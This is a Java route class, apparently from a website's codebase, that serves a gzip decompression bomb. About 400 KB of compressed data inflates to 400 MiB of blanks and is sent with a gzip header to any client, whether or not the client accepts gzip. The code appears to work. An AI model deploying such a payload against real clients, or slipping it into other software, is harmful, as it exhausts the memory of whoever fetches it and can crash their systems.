package io.cookline.site.routes;

import io.cookline.site.http.Answer;
import io.cookline.site.http.Exchange;
import io.cookline.site.http.Route;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Arrays;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import org.jspecify.annotations.Nullable;

/** About 400 KB of gzip that are 400 MiB of blanks, whether the client can take gzip or not. */
public final class GzipBomb implements Route {

  /** How large it gets. */
  public static final int INFLATED = 400 * 1024 * 1024;

  private static final int BLOCK = 1024 * 1024;
  private static final byte[] GZIP_HEADER = {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, (byte) 255};

  private @Nullable Answer answer;

  @Override
  public void answer(Exchange exchange) {
    if (answer == null) {
      answer = Answer.of(200, "text/html", bomb()).with("Content-Encoding", "gzip");
    }
    exchange.send(answer);
  }

  /** The bytes. One block is compressed once: after a full flush it stands alone (RFC 1951). */
  private static byte[] bomb() {
    byte[] blanks = new byte[BLOCK];
    Arrays.fill(blanks, (byte) ' ');
    byte[] buffer = new byte[BLOCK];
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    bytes.writeBytes(GZIP_HEADER);
    CRC32 crc = new CRC32();
    try (Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true)) {
      deflater.setInput(blanks);
      int length = deflater.deflate(buffer, 0, buffer.length, Deflater.FULL_FLUSH);
      for (int i = 0; i < INFLATED / BLOCK; i++) {
        bytes.write(buffer, 0, length);
        crc.update(blanks);
      }
      deflater.finish();
      bytes.write(buffer, 0, deflater.deflate(buffer));
    }
    bytes.writeBytes(
        ByteBuffer.allocate(8)
            .order(ByteOrder.LITTLE_ENDIAN)
            .putInt((int) crc.getValue())
            .putInt(INFLATED)
            .array());
    return bytes.toByteArray();
  }
}
